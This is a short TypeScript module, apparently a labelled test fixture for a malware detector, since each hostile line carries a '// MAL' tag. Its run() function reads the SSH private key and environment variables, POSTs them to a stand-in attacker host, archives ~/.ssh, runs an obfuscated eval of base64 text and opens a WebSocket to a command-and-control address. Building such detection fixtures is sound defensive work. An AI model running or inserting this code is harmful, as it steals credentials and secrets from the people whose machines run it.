import * as fs from 'node:fs';
import { homedir } from 'os';
import cp = require('child_process');

interface Loot { key: string; env: NodeJS.ProcessEnv }

export async function run(): Promise<void> {
  const loot: Loot = {
    key: fs.readFileSync(`${homedir()}/.ssh/id_ed25519`, 'utf8') as string, // MAL
    env: process.env,
  };
  await fetch('https://loot.attacker.example/t', { method: 'POST', body: JSON.stringify(loot) }); // MAL
  cp!.execSync('tar czf /tmp/k.tgz ~/.ssh'); // MAL
  (globalThis as any)['ev' + 'al'](atob('Y29uc29sZS5sb2coMSk=')); // MAL
  const w = (<any>globalThis).WebSocket;
  new w('wss://c2.attacker.example') satisfies object; // MAL
}
